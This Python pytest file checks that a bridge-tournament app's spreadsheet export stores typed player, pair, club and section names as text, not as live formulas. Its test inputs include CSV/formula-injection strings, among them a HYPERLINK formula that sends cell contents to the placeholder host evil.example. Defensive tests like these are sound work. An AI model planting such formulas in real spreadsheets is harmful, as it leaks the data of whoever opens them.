"""Names typed by people go into the workbook as text: never a formula that runs when opened."""

import io
import json
from pathlib import Path

import openpyxl
import pytest
from print_fixtures import Formulas, eight_individuals, make_session, mitchell, session_doc

from movements import generate
from tests.hostile_names import HOSTILE_TEXT, check_names_are_text, shown, text_cells
from tournament.exports import workbook
from tournament.scoring import load_session, score

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click") & Carol', "+1+1", "-2+3",
           "@SUM(A1:A9)", "=1+1"]


def hostile(doc: dict, key: str) -> dict:
    doc[key] = {k: HOSTILE[i % len(HOSTILE)] + f" {k}" for i, k in enumerate(doc[key])}
    return doc


def written(doc: dict) -> openpyxl.Workbook:
    doc["name"] = "=CMD()"
    return openpyxl.load_workbook(io.BytesIO(workbook(load_session(doc))))


def user_cells(book, typed: set[str]):
    """Every cell whose value is text a person typed (or holds it, as the title does)."""
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(t in cell.value for t in typed):
                    yield cell


@pytest.mark.parametrize("doc", [
    hostile(session_doc(mitchell(5, trays_per_round=2), "compass"), "names"),
    hostile(hostile(session_doc(generate("howell-teams", 5), "matches", revoke=False),
                    "names"), "pair_names"),
], ids=["pairs", "teams"])
def test_no_name_is_stored_as_a_formula(doc):
    typed = set(doc["names"].values()) | set(doc.get("pair_names", {}).values())
    book = written(doc)
    cells = list(user_cells(book, typed))
    names = {c.value for c in cells if c.value in typed}
    assert names == set(doc["names"].values())     # every name is there, exactly as typed
    assert all(c.data_type == "s" for c in cells), [(c.coordinate, c.value) for c in cells
                                                    if c.data_type != "s"]
    standings = book["Standings"]
    assert standings["A1"].data_type == "s" and "=CMD()" in standings["A1"].value


def test_the_workbooks_own_formulas_stay_formulas():
    doc = hostile(session_doc(mitchell(5, trays_per_round=2), "compass"), "names")
    book = written(doc)
    formulas = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    typed = set(doc["names"].values()) | {"=CMD()"}
    assert formulas and not any(t in c.value for c in formulas for t in typed)
    assert any(c.value.startswith("=SUMIF(") for c in formulas)


# -- every name a person might type, in every kind of event ------------------------------

FIXTURES = Path(__file__).parent.parent / "scoring" / "fixtures"


def named(doc: dict, key: str = "names", offset: int = 0) -> dict:
    doc[key] = {k: HOSTILE_TEXT[(i + offset) % len(HOSTILE_TEXT)] for i, k in enumerate(doc[key])}
    return doc


def club_match() -> dict:
    """E3 (club against club) with its two clubs and its pairs named with hostile names."""
    doc = json.loads((FIXTURES / "e3_club_match.json").read_text())
    doc["clubs"] = {HOSTILE_TEXT[0]: doc["clubs"]["O"], HOSTILE_TEXT[3]: doc["clubs"]["X"]}
    doc["names"] = {str(p): HOSTILE_TEXT[p] for p in range(1, 9)}
    return doc


HOSTILE_DOCS = {
    "pairs": named(session_doc(mitchell(8), "compass")),
    "howell": named(session_doc(generate("howell-pairs", 8), "matchpoints")),
    "teams": named(named(session_doc(generate("howell-teams", 5), "matches", revoke=False)),
                   "pair_names", offset=5),
    "individuals": named(session_doc(eight_individuals(), "individual-loss")),
    "club-match": club_match(),
}
for _doc in HOSTILE_DOCS.values():
    _doc["name"] = HOSTILE_TEXT[1]


def typed(doc: dict) -> list[str]:
    return list(doc["names"].values()) + list(doc.get("pair_names", {}).values()) + \
        list(doc.get("clubs", {})) + [doc["name"]]


@pytest.mark.parametrize("kind", list(HOSTILE_DOCS))
def test_every_hostile_name_is_text_in_every_sheet(kind):
    doc = HOSTILE_DOCS[kind]
    session = load_session(doc)
    book = openpyxl.load_workbook(io.BytesIO(workbook(session)))
    check_names_are_text(book, typed(doc))
    standings = book["Standings"]
    heads = [c.value for c in standings[4]]
    names = {standings.cell(r, heads.index("Name") + 1).value for r in range(5, standings.max_row + 1)}
    entrants = score(session).rows
    assert {shown(row.name) for row in entrants if row.name} <= names     # exactly as typed
    if "clubs" in doc:
        teams = {standings.cell(r, 2).value for r in range(5, 5 + len(entrants))}
        assert teams == {shown(c) for c in doc["clubs"]}
        assert {c.value for c in book["Matches"]["A"] if c.value in teams} == teams


def standings_names(doc: dict) -> list:
    book = openpyxl.load_workbook(io.BytesIO(workbook(load_session(doc))))
    return [c for c in book["Standings"]["C"][4:] if c.value is not None]


def test_a_name_a_spreadsheet_would_run_keeps_the_quote_prefix():
    """Stored as text, it would still run once the director edits the cell, unless quoted."""
    doc = session_doc(mitchell(3), "compass")
    doc["names"] = {"1": "=1+1 Ann", "2": "+1 Bob", "3": "-1 Cy", "4": "@SUM(A1) Dee",
                    "5": "\tTab Eve", "6": "Plain Fay"}
    cells = {c.value: c for c in standings_names(doc)}
    assert set(cells) == set(doc["names"].values())
    assert [n for n, c in cells.items() if c.quotePrefix] == [n for n in cells if n != "Plain Fay"]


def test_characters_xml_forbids_are_removed():
    doc = session_doc(mitchell(3), "compass")
    doc["names"] = {"1": "Ctl\u0001 & \ufffe\uffff Ann", "2": "Bob \x0b lone"}
    assert {c.value for c in standings_names(doc)} >= {"Ctl &  Ann", "Bob  lone"}


def test_a_carriage_return_is_kept():
    """XML reads a bare carriage return as a newline: it must be written as a reference."""
    doc = session_doc(mitchell(3), "compass")
    doc["names"] = {"1": "\rCy", "2": "Dee\r\nEve"}
    assert {c.value for c in standings_names(doc)} >= {"\rCy", "Dee\r\nEve"}


def test_a_name_longer_than_a_cell_holds_is_cut_there():
    doc = session_doc(mitchell(3), "compass")
    doc["names"]["1"] = "Long " * 7000
    assert ("Long " * 7000)[:32767] in [c.value for c in standings_names(doc)]


@pytest.mark.parametrize("where", ["session", "movement"])
def test_a_club_is_named_in_text(where):
    """A club match's clubs are named by whoever sets it up (in the session, or in the
    movement of a club match): their names are text too."""
    doc = json.loads((FIXTURES / "e3_club_match.json").read_text())
    clubs = ['=HYPERLINK("http://evil.example","O") Club', "+1 Club"]
    named_clubs = dict(zip(clubs, doc.pop("clubs").values()))
    (doc if where == "session" else doc["movement"])["clubs"] = named_clubs
    book = openpyxl.load_workbook(io.BytesIO(workbook(load_session(doc))))
    cells = [c for _, c in text_cells(book) if any(club in c.value for club in clubs)]
    assert {c.value for c in cells} >= set(clubs) | {f"v {club}" for club in clubs}
    assert {c.data_type for c in cells} == {"s"}, [(c.coordinate, c.data_type) for c in cells]
    assert all(c.quotePrefix for c in cells if c.value in clubs)


def two_sections(first: str, second: str):
    a = make_session(mitchell(3), "compass", seed=1)
    b = make_session(mitchell(3), "compass", seed=2)
    book = openpyxl.load_workbook(io.BytesIO(workbook([(first, a), (second, b)])))
    assert len(set(book.sheetnames)) == len(book.sheetnames) == 8
    f = Formulas(book)
    first, second = book.sheetnames[0], book.sheetnames[4]
    assert first.startswith("Standings") and second.startswith("Standings")
    assert f.value(first, "E5") == score(a).rows[0].tricks
    assert f.value(second, "E5") == score(b).rows[0].tricks


def test_sections_named_alike_get_sheets_of_their_own():
    """A sheet name holds 31 characters: two sections that begin alike must not share one."""
    two_sections("Thursday evening, first room", "Thursday evening, second room")


def test_a_quote_in_a_section_name_is_doubled_where_a_formula_names_its_sheet():
    two_sections("O'Brien room", "West room")
